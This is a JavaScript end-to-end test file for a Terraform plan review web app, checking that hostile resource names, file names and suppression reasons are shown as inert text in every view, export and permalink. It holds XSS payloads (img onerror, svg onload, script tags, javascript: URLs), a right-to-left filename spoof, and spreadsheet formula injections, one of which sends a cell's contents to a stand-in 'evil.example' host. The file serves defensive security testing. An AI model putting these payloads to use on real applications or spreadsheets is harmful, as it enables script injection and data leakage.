// Hostile content end to end (tests/fixtures/hostile-content/): a plan and a .tf whose
// names, for_each keys, tags and values are HTML, script, Markdown, spreadsheet and
// right-to-left payloads, pasted and dropped under a hostile file name. Nothing may run
// (every script payload sets window.__pwned; no dialog opens; nothing violates the CSP),
// every payload shows as text in the findings, details, matrix, hierarchy labels and
// tooltips, and every export keeps it inert. Also through a permalink.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { serve, browser, open, paste as fill, tab, ROOT } from './harness.mjs';
import { parseCsv, sarifValidator, downloadAll, activeMarkdown } from './exports.mjs';

const DIR = path.join(ROOT, 'tests/fixtures/hostile-content');
const PLAN = fs.readFileSync(path.join(DIR, 'hostile.plan.json'), 'utf8');
const TF = fs.readFileSync(path.join(DIR, 'hostile.tf'), 'utf8');

const IMG = `<img src=x onerror="window.__pwned='img'">`;
const SCRIPT = `<script>window.__pwned='script'</script>`;
const SVG = `"><svg onload="window.__pwned='svg'">`;
const RTL = 'invoice\u202egpj.exe';
const CSV_FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
/** The plan's addresses, as Terraform prints them. */
const KEY = `aws_kms_key.k[${JSON.stringify(IMG)}]`;
const BUCKET = `aws_s3_bucket.${SVG}`;
const RTL_BUCKET = `aws_s3_bucket.${RTL}`;
/** How the page shows it: the override made visible, so it cannot reorder the text around it. */
const RTL_SHOWN = 'aws_s3_bucket.invoice\\u{202e}gpj.exe';
const DB = `aws_db_instance.${CSV_FORMULA}`;
const LISTENER = `aws_lb_listener.javascript:window.__pwned='url'`;
const QUEUE = `aws_sqs_queue.${'q'.repeat(2500)}${SCRIPT}`;
/** The dropped .tf's name: a formula and markup. */
const FILE = `=HYPERLINK("http:evil","x")<img src=x onerror="window.__pwned='file'">.tf`;
const REASON = `=HYPERLINK("http://evil.example","x") <img src=x onerror="window.__pwned='reason'"> [md](javascript:alert(1))`;

let server;
let b;
const dialogs = [];

/** Records every dialog a payload might open. */
function watch(context) {
  context.on('page', (p) => p.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss().catch(() => {}); }));
  for (const p of context.pages()) p.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss().catch(() => {}); });
}

before(async () => {
  server = await serve();
  b = await browser();
  watch(b.context);
});
after(async () => {
  await b.close();
  await server.close();
});

/** Nothing ran, nothing live was inserted, nothing left the machine. */
async function inert(page, br = b) {
  const seen = await page.evaluate(() => {
    const live = [];
    for (const el of document.querySelectorAll('*')) {
      for (const a of el.attributes) {
        if (/^on/i.test(a.name)) live.push(`${el.tagName} ${a.name}`);
        if (/^(href|src|action|formaction|xlink:href)$/i.test(a.name) && /^\s*javascript:/i.test(a.value)) live.push(`${el.tagName} ${a.name}=${a.value}`);
      }
    }
    for (const sel of ['img', 'iframe', 'object', 'embed', 'script:not([src])', 'svg:not(.lock):not(.hier-svg)']) {
      for (const el of document.querySelectorAll(sel)) live.push(`<${el.tagName.toLowerCase()}> ${el.outerHTML.slice(0, 80)}`);
    }
    return { live, pwned: window.__pwned ?? null, csp: window.__cspViolations };
  });
  assert.deepEqual(seen.live, [], 'no live element or handler from the input');
  assert.equal(seen.pwned, null, 'no payload ran');
  assert.deepEqual(seen.csp, [], 'CSP violations (a blocked payload would show here)');
  assert.deepEqual(dialogs, [], 'no dialog opened');
  assert.deepEqual(br.external(), [], 'no request may leave 127.0.0.1');
  assert.deepEqual(br.pageErrors, [], 'the page threw');
}

async function paste(page, text) {
  await fill(page, text);
  await page.click('[data-testid=analyse]');
  await page.waitForSelector('[data-testid=verdict]');
}

/** Opens every finding and returns the findings panel's text. */
async function openAllFindings(page) {
  await tab(page, 'findings');
  const toggles = await page.$$('[data-testid=finding-toggle][aria-expanded=false]');
  for (const t of toggles) await t.click();
  await page.waitForFunction((n) => document.querySelectorAll('[data-testid=finding-detail]').length === n, toggles.length);
  return page.textContent('[data-testid=panel-findings]');
}

test('a pasted hostile plan: every payload is text in every view, and nothing runs', async () => {
  const page = await open(b.context, server.base);
  await paste(page, PLAN);
  await inert(page);

  // Findings and their details show each payload literally.
  const findings = await openAllFindings(page);
  for (const s of [KEY, BUCKET, RTL_SHOWN, DB, LISTENER, QUEUE]) assert.ok(findings.includes(s), `findings show ${s.slice(0, 60)}`);
  assert.ok(!(await page.textContent('body')).includes('\u202e'), 'no raw right-to-left override is shown anywhere');
  assert.ok(findings.includes(`uses ssl_policy "${IMG}"`) || findings.includes(IMG), 'the hostile ssl_policy is shown as evidence');
  assert.ok(findings.includes(SCRIPT), 'a hostile tag key or Sid is shown as evidence');
  const addresses = await page.$$eval('[data-testid=finding] td.address', (els) => els.map((e) => e.textContent));
  assert.ok(addresses.includes(KEY) && addresses.includes(RTL_SHOWN), 'table cells hold the exact strings, bidi controls made visible');
  // Tooltips: the category's evidence (a name heuristic on the right-to-left name).
  const titles = await page.$$eval('[title]', (els) => els.map((e) => e.getAttribute('title')));
  // The engine quotes evidence with its control characters escaped (the RTL override shows as
  // `\u{202e}` and cannot reorder the tooltip).
  assert.ok(titles.some((t) => t.includes('name "invoice\\u{202e}gpj.exe"')), 'the category tooltip holds the RTL name as text, the override escaped');
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  assert.ok(overflow <= 1, `a 2,500-character address must not widen the page (${overflow}px)`);
  await inert(page);

  // The matrix and the stores behind a cell.
  await tab(page, 'categories');
  await page.click('[data-testid=cell-pii-stores]');
  const stores = await page.$$eval('[data-testid=stores] tbody tr', (rows) => rows.map((r) => r.dataset.store));
  assert.ok(stores.includes(BUCKET) && stores.includes(QUEUE), `pii stores: ${stores.map((s) => s.slice(0, 40))}`);
  const labels = await page.$$eval('[data-testid=override]', (els) => els.map((e) => e.getAttribute('aria-label')));
  assert.ok(labels.includes(`Category of ${BUCKET}`));
  assert.ok((await page.textContent('[data-testid=stores]')).includes('"><svg'), 'store names are text');
  await inert(page);

  // The key hierarchy: node labels, accessible names and tooltips.
  await tab(page, 'hierarchy');
  await page.waitForSelector('[data-testid=hierarchy] svg');
  const svg = await page.evaluate(() => ({
    ids: [...document.querySelectorAll('[data-node-id]')].map((g) => g.dataset.nodeId),
    names: [...document.querySelectorAll('[data-node-id]')].map((g) => g.getAttribute('aria-label') ?? ''),
    tooltips: [...document.querySelectorAll('.hier-svg title')].map((t) => t.textContent),
    text: [...document.querySelectorAll('.hier-svg text')].map((t) => t.textContent).join('\n'),
  }));
  assert.ok(svg.ids.includes(KEY) && svg.ids.includes(BUCKET), 'nodes keep the exact addresses');
  assert.ok(svg.tooltips.some((t) => t.includes(KEY)) && svg.tooltips.some((t) => t.includes(`alias/${SCRIPT}`)), 'tooltips hold the payloads as text');
  assert.ok(svg.names.some((n) => n.includes(KEY)));
  assert.ok(svg.text.includes('<img') || svg.text.includes('<script'), 'drawn labels show markup as text');
  await page.click(`[data-node-id="${KEY.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"]`);
  await page.waitForSelector('[data-testid=blast-headline]');
  assert.ok((await page.textContent('[data-testid=blast-radius]')).includes(BUCKET));
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-testid=download-svg]')]);
  const doc = fs.readFileSync(await download.path(), 'utf8');
  const parsed = await page.evaluate((text) => {
    const d = new DOMParser().parseFromString(text, 'image/svg+xml');
    const live = [...d.querySelectorAll('*')].filter((e) => e.localName === 'script' || e.localName === 'foreignObject' || [...e.attributes].some((a) => /^on/i.test(a.name)));
    return { error: d.querySelector('parsererror')?.textContent ?? null, live: live.length, titles: [...d.querySelectorAll('title')].map((t) => t.textContent) };
  }, doc);
  assert.equal(parsed.error, null, 'the downloaded SVG is well-formed');
  assert.equal(parsed.live, 0, 'the downloaded SVG has no script or handlers');
  assert.ok(parsed.titles.some((t) => t.includes(KEY)), 'its tooltips keep the payload as text');
  await inert(page);

  await tab(page, 'resources');
  const inventory = await page.textContent('[data-testid=inventory]');
  for (const s of [KEY, BUCKET, DB, LISTENER]) assert.ok(inventory.includes(s), `inventory shows ${s.slice(0, 50)}`);
  await inert(page);

  // Exports keep every payload inert.
  const files = await downloadAll(page);
  const json = JSON.parse(files.json.text);
  const exported = new Set(json.findings.map((f) => f.address));
  for (const s of [KEY, BUCKET, RTL_BUCKET, DB, LISTENER, QUEUE]) assert.ok(exported.has(s), `JSON keeps ${s.slice(0, 50)} exactly`);
  const validate = sarifValidator();
  const sarif = JSON.parse(files.sarif.text);
  assert.ok(validate(sarif), JSON.stringify(validate.errors?.slice(0, 3)));
  assert.ok(sarif.runs[0].results.some((r) => r.message.text.includes(KEY)));
  assert.deepEqual(activeMarkdown(files.markdown.text), [], 'Markdown: nothing renders as HTML, link or image');
  assert.ok(files.markdown.text.includes('onerror'), 'Markdown still names the payloads');
  const csv = parseCsv(files.csv.text);
  assert.equal(csv.length - 1, json.findings.length);
  for (const row of csv) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `CSV cell is a formula: ${cell.slice(0, 60)}`);
  assert.ok(csv.some((r) => r[3] === DB), 'CSV keeps the address exactly');
  await inert(page);
});

test('a .tf dropped under a hostile file name, a hostile suppression reason, exports and a permalink stay inert', async () => {
  await b.context.pages()[0]?.goto('about:blank');
  const page = await open(b.context, server.base);
  const dt = await page.evaluateHandle(([text, name]) => {
    const dt = new DataTransfer();
    dt.items.add(new File([text], name, { type: 'text/plain' }));
    return dt;
  }, [TF, FILE]);
  await page.dispatchEvent('[data-testid=dropzone]', 'drop', { dataTransfer: dt });
  await page.waitForSelector('[data-testid=verdict]');
  assert.ok((await page.textContent('[data-testid=files]')).includes(FILE), 'the file name is text');
  const findings = await openAllFindings(page);
  assert.ok(findings.includes(`${FILE}:`), 'locations name the file as text');
  assert.ok(findings.includes(`aws_kms_key.<script>window.__pwned='tf-script'</script>`));
  assert.ok(findings.includes(`aws_s3_bucket."><svg onload="window.__pwned='tf-bucket'">["<img src=x onerror=\\"window.__pwned='tf-each'\\">"]`), 'for_each keys are text');
  assert.ok(await page.$('[data-testid=finding-source]'), 'source excerpts render');
  await inert(page);

  // A suppression whose reason is a formula and markup.
  await page.click('[data-testid=suppress] >> nth=0');
  await page.fill('[data-testid=suppress-reason]', REASON);
  await page.click('[data-testid=suppress-confirm]');
  await page.waitForSelector('[data-testid=suppressed-note]');
  assert.ok((await page.textContent('[data-testid=suppressed-note]')).includes(REASON));
  await inert(page);

  const files = await downloadAll(page);
  const csv = parseCsv(files.csv.text);
  for (const row of csv) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `CSV cell is a formula: ${cell.slice(0, 60)}`);
  const file = csv[0].indexOf('file');
  const reason = csv[0].indexOf('suppression_reason');
  assert.ok(csv.some((r) => r[file] === `'${FILE}`), 'the file name is neutralised with a leading quote');
  assert.ok(csv.some((r) => r[reason] === `'${REASON}`), 'the reason is neutralised with a leading quote');
  assert.deepEqual(activeMarkdown(files.markdown.text), []);
  const json = JSON.parse(files.json.text);
  assert.equal(json.input.files[0].path, FILE);
  assert.ok(json.findings.some((f) => f.suppressed?.reason === REASON));
  assert.ok(sarifValidator()(JSON.parse(files.sarif.text)));
  await inert(page);

  // The same review through a permalink, opened in a fresh browser.
  await page.click('[data-testid=share-toggle]');
  await page.waitForFunction(() => document.querySelector('[data-testid=share-link]')?.value.includes('#v1.'));
  const link = await page.inputValue('[data-testid=share-link]');
  const other = await browser();
  watch(other.context);
  try {
    const got = await open(other.context, link);
    await got.waitForSelector('[data-testid=permalink-banner]');
    assert.ok((await got.textContent('[data-testid=permalink-banner]')).includes(FILE), 'the banner names the file as text');
    const text = await openAllFindings(got);
    assert.ok(text.includes(REASON) || (await got.textContent('[data-testid=panel-findings]')).includes(REASON));
    await tab(got, 'hierarchy');
    await got.waitForSelector('[data-testid=hierarchy] svg');
    await inert(got, other);
  } finally {
    await other.close();
  }
});
